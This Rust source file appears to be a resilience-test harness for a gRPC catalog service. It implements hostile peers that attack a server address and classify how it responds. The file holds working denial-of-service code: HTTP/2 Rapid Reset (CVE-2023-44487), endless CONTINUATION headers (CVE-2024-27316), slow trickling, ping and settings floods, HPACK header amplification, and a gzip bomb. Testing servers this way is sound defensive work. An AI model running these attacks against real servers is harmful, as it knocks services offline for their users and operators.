//! Peers that mean harm, each over a connection of its own.

use std::io::{ErrorKind, Result};
use std::net::SocketAddr;
use std::sync::LazyLock;
use std::time::Duration;

use flate2::{Compress, Compression, Crc, FlushCompress};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{sleep, timeout};
use tonic::Code;

/// What a hostile peer does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Connects and says nothing.
    Silent,
    /// Sends half of how HTTP/2 begins.
    HalfPreface,
    /// Sends the head of an HTTP/1.1 request, a byte a second.
    TrickleHead,
    /// Calls with a message of 1,000 bytes that come one a second.
    Trickle,
    /// Begins calls and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Calls with headers that never end (CVE-2024-27316).
    EndlessHeaders,
    /// Calls with 48 KiB of headers, which HPACK packs into 4.
    LargeHeaders,
    /// Pings and hears no answer.
    PingFlood,
    /// Changes its settings and hears no answer.
    SettingsFlood,
    /// Calls with a message of 1 MiB that unpacks to 1 GiB.
    GzipBomb,
    /// Calls with a message of one byte more than 4 MiB.
    TooLarge,
}

/// How an attack ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// The server closed the connection.
    Closed,
    /// The server said GOAWAY with this error code, and closed the connection.
    GoAway(u32),
    /// The server reset the call's stream with this error code.
    Reset(u32),
    /// The server answered the call with this status.
    Refused(Code),
    /// The server answered the call with this status of HTTP, and none of gRPC.
    RefusedByHttp(u16),
    /// The server took nothing of what was sent for five seconds.
    Stalled,
    /// The server served the call, or held out for 15 seconds.
    Survived,
}

/// How long an attack goes on.
const PATIENCE: Duration = Duration::from_secs(15);
/// How long the server may take nothing of what is sent.
const STALL: Duration = Duration::from_secs(5);
/// How an HTTP/2 client begins.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// What is called.
const PATH: &str = "/jangteo.catalog.v1.CatalogService/ListProducts";

impl Attack {
    /// Attacks a server until it has had enough, or for 15 seconds.
    pub async fn on(self, address: SocketAddr) -> Outcome {
        let socket = TcpSocket::new_v4().unwrap();
        // Whoever hears no answers has little room to keep them either.
        socket.set_recv_buffer_size(4 << 10).unwrap();
        let (mut from_server, mut to_server) = socket.connect(address).await.unwrap().into_split();
        let deaf = matches!(self, Self::PingFlood | Self::SettingsFlood);
        let stalled = async {
            let sent = self.send(&mut to_server).await;
            sent.is_err_and(|error| error.kind() == ErrorKind::TimedOut)
        };
        let attack = async {
            tokio::select! {
                true = stalled => Outcome::Stalled,
                outcome = self.hear(&mut from_server), if !deaf => outcome,
                else => self.hear(&mut from_server).await,
            }
        };
        timeout(PATIENCE, attack).await.unwrap_or(Outcome::Survived)
    }

    async fn send(self, to_server: &mut OwnedWriteHalf) -> Result<()> {
        let (first, more) = self.says();
        for part in first.chunks(16 << 10) {
            timeout(STALL, to_server.write_all(part)).await??;
        }
        let slow = matches!(self, Self::TrickleHead | Self::Trickle);
        while !more.is_empty() {
            sleep(Duration::from_secs(slow.into())).await;
            timeout(STALL, to_server.write_all(&more)).await??;
        }
        Ok(())
    }

    /// What is sent at once, and what is sent on and on after it.
    fn says(self) -> (Vec<u8>, Vec<u8>) {
        let head = || frame(HEADERS, END_HEADERS, 1, &call());
        // Floods begin with a good call, since whoever makes none is cut off anyway.
        let good = || [head(), frame(DATA, END_STREAM, 1, &[0; 5])].concat();
        let (first, more) = match self {
            Self::Silent => return (vec![], vec![]),
            Self::HalfPreface => return (PREFACE[..PREFACE.len() / 2].to_vec(), vec![]),
            Self::TrickleHead => return (b"GET /".to_vec(), b"x".to_vec()),
            Self::Trickle => {
                let length = frame(DATA, 0, 1, &[0, 0, 0, 0x03, 0xe8]);
                ([head(), length].concat(), frame(DATA, 0, 1, b"x"))
            }
            Self::RapidReset => {
                let call = call();
                let begin = |id| frame(HEADERS, END_HEADERS, id, &call);
                let pair = |id| [begin(id), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat();
                ((0..100_000).map(|at| pair(2 * at + 1)).collect::<Vec<_>>().concat(), vec![])
            }
            Self::EndlessHeaders => {
                let more = frame(CONTINUATION, 0, 1, &literal(0, "x", "x"));
                (frame(HEADERS, 0, 1, &call()), more.repeat(1_000))
            }
            Self::LargeHeaders => {
                // One goes to the connection's table, and eleven more come from there.
                let large = [literal(0x40, "x-large", &"x".repeat(4_000)), vec![0xbe; 11]].concat();
                let headers = [call(), large].concat();
                (frame(HEADERS, END_HEADERS | END_STREAM, 1, &headers), vec![])
            }
            Self::PingFlood => (good(), frame(PING, 0, 0, b"hostile!").repeat(1_000)),
            Self::SettingsFlood => (good(), frame(SETTINGS, 0, 0, &[]).repeat(1_000)),
            Self::GzipBomb => return (post(1, &BOMB), vec![]),
            Self::TooLarge => return (post(0, &vec![0; (4 << 20) + 1]), vec![]),
        };
        ([PREFACE, &frame(SETTINGS, 0, 0, &[]), &first].concat(), more)
    }

    async fn hear(self, from_server: &mut OwnedReadHalf) -> Outcome {
        match self {
            Self::Trickle | Self::LargeHeaders => frames(from_server, true).await,
            Self::RapidReset | Self::EndlessHeaders => frames(from_server, false).await,
            Self::PingFlood | Self::SettingsFlood => frames(from_server, false).await,
            _ => text(from_server).await,
        }
    }
}

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call.
fn call() -> Vec<u8> {
    let headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PATH),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    headers.map(|(name, value)| literal(0, name, value)).concat()
}

/// A header as HPACK writes it without Huffman's code; `kind` tells what is to be kept of it.
fn literal(kind: u8, name: &str, value: &str) -> Vec<u8> {
    let mut header = vec![kind];
    for text in [name, value] {
        // An integer with a prefix of seven bits.
        let mut rest = text.len();
        if rest >= 127 {
            header.push(127);
            rest -= 127;
            while rest >= 128 {
                header.push((rest % 128 + 128) as u8);
                rest /= 128;
            }
        }
        header.push(rest as u8);
        header.extend_from_slice(text.as_bytes());
    }
    header
}

/// Reads HTTP/2 until the server has had enough of the connection, or of the call if it `answers`.
async fn frames(from_server: &mut OwnedReadHalf, answers: bool) -> Outcome {
    let mut end = Outcome::Closed;
    let mut head = [0; 9];
    while from_server.read_exact(&mut head).await.is_ok() {
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let mut payload = vec![0; length as usize];
        if from_server.read_exact(&mut payload).await.is_err() {
            break;
        }
        let code = |at: usize| u32::from_be_bytes(payload[at..at + 4].try_into().unwrap());
        match head[3] {
            HEADERS if answers => {
                if let Some(outcome) = answer(&payload) {
                    return outcome;
                }
            }
            RST_STREAM if answers => return Outcome::Reset(code(0)),
            GOAWAY if code(4) != 0 => end = Outcome::GoAway(code(4)),
            _ => {}
        }
    }
    end
}

/// What a block of headers says of a call, if that is no longer open.
fn answer(block: &[u8]) -> Option<Outcome> {
    // "grpc-status" in Huffman's code.
    let name = b"\x9a\xca\xc8\xb2\x12\x34\xda\x8f";
    if let Some(at) = block.windows(name.len()).position(|it| it == name) {
        return Some(told(number(&block[at + name.len()..])));
    }
    // Common statuses of HTTP, like 200, are written in one byte; others after this one.
    let status = block.strip_prefix(&[0x48])?;
    Some(Outcome::RefusedByHttp(number(status)))
}

/// A short number in Huffman's code, after its length.
fn number(text: &[u8]) -> u16 {
    let mut code = [0xff; 4];
    let length = usize::from(text[0] & 0x7f);
    code[..length].copy_from_slice(&text[1..=length]);
    let (mut bits, mut number) = (u32::from_be_bytes(code), 0);
    loop {
        // 0, 1 and 2 have five bits, other digits six; ones fill the rest.
        let (digit, length) = match bits >> 26 {
            it @ 0..6 => (it / 2, 5),
            it @ 25..32 => (it - 22, 6),
            _ => return number,
        };
        number = number * 10 + digit as u16;
        bits = !(!bits << length);
    }
}

/// What a status of gRPC says of a call.
fn told(status: u16) -> Outcome {
    match Code::from(i32::from(status)) {
        Code::Ok => Outcome::Survived,
        code => Outcome::Refused(code),
    }
}

/// Reads HTTP/1.1 until the server closes the connection.
async fn text(from_server: &mut OwnedReadHalf) -> Outcome {
    let mut said = Vec::new();
    // A reset is as good as an end.
    let _ = from_server.read_to_end(&mut said).await;
    let said = String::from_utf8_lossy(&said);
    let after = |name| said.split_once(name)?.1.split_ascii_whitespace().next()?.parse().ok();
    after("grpc-status:")
        .map(told)
        .or_else(|| after("HTTP/1.1").map(Outcome::RefusedByHttp))
        .unwrap_or(Outcome::Closed)
}

/// A call as gRPC-Web over HTTP/1.1, with its message `packed` or not.
fn post(packed: u8, message: &[u8]) -> Vec<u8> {
    let head = format!(
        "POST {PATH} HTTP/1.1\r\nhost: x\r\nconnection: close\r\ngrpc-encoding: {}\r\n\
         content-type: application/grpc-web+proto\r\ncontent-length: {}\r\n\r\n",
        ["identity", "gzip"][usize::from(packed)],
        message.len() + 5
    );
    let length = u32::try_from(message.len()).unwrap().to_be_bytes();
    [head.as_bytes(), &[packed], &length, message].concat()
}

/// 1 GiB of zeros in 1 MiB: one MiB packed with nothing before it, 1,024 times.
static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let zeros = vec![0; 1 << 20];
    let mut packed = Vec::with_capacity(64 << 10);
    let mut packer = Compress::new(Compression::best(), false);
    packer.compress_vec(&zeros, &mut packed, FlushCompress::Full).unwrap();
    let (mut one, mut all) = (Crc::new(), Crc::new());
    one.update(&zeros);
    (0..1024).for_each(|_| all.combine(&one));
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff];
    // An empty block that is the last, the checksum and the length.
    let end = [&[3, 0][..], &all.sum().to_le_bytes(), &all.amount().to_le_bytes()].concat();
    [&head[..], &packed.repeat(1024), &end].concat()
});
